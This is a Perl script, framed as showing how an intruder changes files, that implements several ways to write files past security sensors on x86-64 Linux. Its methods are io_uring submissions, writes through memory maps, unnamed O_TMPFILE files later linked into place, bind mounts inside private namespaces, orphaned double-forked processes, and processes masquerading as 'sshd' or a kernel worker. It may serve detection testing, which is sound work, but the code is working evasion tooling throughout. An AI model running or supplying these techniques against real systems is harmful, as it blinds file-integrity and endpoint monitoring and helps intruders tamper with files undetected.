# How an intruder changes files past a sensor that looks at write(2), at names or at parents. x86-64, and nothing but perl.
# Arguments: way, what (new, append, swap), path, mode, text (of a swap: from=to, of the same length).
use strict; use warnings;
my ($way, $what, $path, $mode, $text) = @ARGV;
sub call { my $r = syscall($_[0], @_[1 .. $#_]); $r >= 0 || $r < -4096 or die "$way: system call $_[0]: $!\n"; return $r }

my $before = '';
if ($what ne 'new' && open my $f, '<', $path) { local $/; $before = <$f> // '' }
my $after;
if ($what eq 'swap') { my ($from, $to) = split /=/, $text; ($after = $before) =~ s/\Q$from/$to/ or die "no $from in $path\n" }
else { $after = $before . "$text\n" }
$mode = oct $mode;

# The kernel stores into memory for us: what comes out of a pipe.
sub store { my ($to, $bytes) = @_;
  pipe my $r, my $w or die; syswrite $w, $bytes; call(0, fileno $r, $to, length $bytes) }
sub load { my ($from, $bytes) = @_; return unpack "P$bytes", pack 'J', $from }
sub number { return unpack 'L', load($_[0], 4) }
sub address { return unpack 'J', pack 'p', $_[0] }
sub plain { my $to = shift; open my $f, '>', $to or die "$to: $!\n"; print $f $after; close $f; chmod $mode, $to }

# --- io_uring: requests in a ring, at once, by a worker of the kernel's, or by one that polls
my (%ring, $params);
sub ring { my $flags = shift;
  $params = pack 'L30', 0, 0, $flags, 0, 50, (0) x 25;
  my $fd = call(425, 8, $params);
  my @p = unpack 'L30', $params;
  my $bytes = $p[10 + 6] + 8 * 4; my $cq = $p[20 + 5] + 16 * 16; $bytes = $cq if $cq > $bytes;
  my $at = call(9, 0, $bytes, 3, 0x8001, $fd, 0);
  my $entries = call(9, 0, 8 * 64, 3, 0x8001, $fd, 0x10000000);
  %ring = (fd => $fd, poll => $flags & 2, tail => $at + $p[11], array => $at + $p[16], entries => $entries,
    head => $at + $p[20], done => $at + $p[21], mask => $p[22], results => $at + $p[25]) }
sub request { my ($op, $fd, $off, $addr, $len, $flags) = @_;
  store($ring{entries}, pack 'CCSlQQLLQSSlQQ', $op, ($way eq 'uring-worker' ? 16 : 0), 0, $fd, $off, $addr, $len, $flags, 7, 0, 0, 0, 0, 0);
  my $tail = number($ring{tail}); store($ring{array} + 4 * ($tail & 7), pack 'L', 0); store($ring{tail}, pack 'L', $tail + 1);
  call(426, $ring{fd}, 1, 1, 1 | $ring{poll}, 0, 0);
  my $head = number($ring{head});
  for (1 .. 2000) { last if number($ring{done}) != $head; select undef, undef, undef, 0.001 }
  my ($data, $result) = unpack 'Ql', load($ring{results} + 16 * ($head & $ring{mask}), 12);
  store($ring{head}, pack 'L', $head + 1);
  $data == 7 && $result >= 0 or die "$way: request $op: $result\n"; return $result }
sub uring { ring($_[0]);
  my $fd = request(18, -100, 0, address($path), $mode, 0101 | ($what eq 'append' ? 02000 : 0));
  my $bytes = $what eq 'append' ? "$text\n" : $after;
  request(23, $fd, $what eq 'append' ? ~0 : 0, address($bytes), length $bytes, 0);
  request(19, $fd, 0, 0, 0, 0) }

# --- a mapping, written to after the descriptor is closed; the second kind is made writable only afterwards
sub mapped { my $late = shift;
  my $fd = call(257, -100, $path, 0102, $mode);
  call(77, $fd, length $after) if length $after != length $before;
  my $at = call(9, 0, length $after, $late ? 1 : 3, 1, $fd, 0);
  call(3, $fd);
  call(10, $at, length $after, 3) if $late;
  store($at, $after); call(11, $at, length $after) }

# --- a file without a name that is given one
sub nameless { my ($place) = $path =~ m{^(.*)/}; my $name = $what eq 'new' ? $path : "$path.$$";
  my $fd = call(257, -100, $place, 020200002, $mode); call(1, $fd, $after, length $after);
  my $from = "/proc/self/fd/$fd"; call(265, -100, $from, -100, $name, 0x400); call(3, $fd);
  call(82, $name, $path) if $name ne $path }

# --- another way to the same directory, in a namespace of one's own or before everybody's eyes
sub bound { my $own = shift; my ($place, $name) = $path =~ m{^(.*)/([^/]+)$}; my $root = '/'; my $none = 'none'; my $mnt = '/mnt';
  if ($own) { call(272, 0x20000); call(165, $none, $root, 0, 0x44000, 0) }
  call(165, $place, $mnt, 0, 0x1000, 0); plain("/mnt/$name"); call(166, $mnt, 2) }

# --- a process whose parents are gone
sub detached { require POSIX; pipe my $r, my $w or die;
  if (fork) { close $w; <$r>; return }
  POSIX::setsid(); close $r; exit 0 if fork;
  for (1 .. 200) { last if getppid() == 1; select undef, undef, undef, 0.01 }
  plain($path); exit 0 }

# --- a process that calls itself another
sub disguised { my $name = shift; call(157, 15, "$name\0"); $0 = $name eq 'sshd' ? 'sshd: ops [priv]' : $name; plain($path) }

# --- a program that is in no directory
sub memory { my $name = 'x'; my $fd = call(319, $name, 0);
  open my $f, '<', '/bin/sleep' or die; local $/; my $program = <$f>; call(1, $fd, $program, length $program);
  my $pid = fork; if (!$pid) { exec { "/proc/self/fd/$fd" } '[kworker/0:1]', '0.2' or exit 9 } waitpid $pid, 0; die "exec: $?\n" if $? }

my %ways = ('uring' => sub { uring(0) }, 'uring-worker' => sub { uring(0) }, 'uring-poll' => sub { uring(2) },
  'mapped' => sub { mapped(0) }, 'mapped-late' => sub { mapped(1) }, 'nameless' => \&nameless, 'memory' => \&memory,
  'bound-own' => sub { bound(1) }, 'bound' => sub { bound(0) }, 'detached' => \&detached, 'as' => sub { disguised($ARGV[5]) });
($ways{$way} or die "no way $way\n")->();
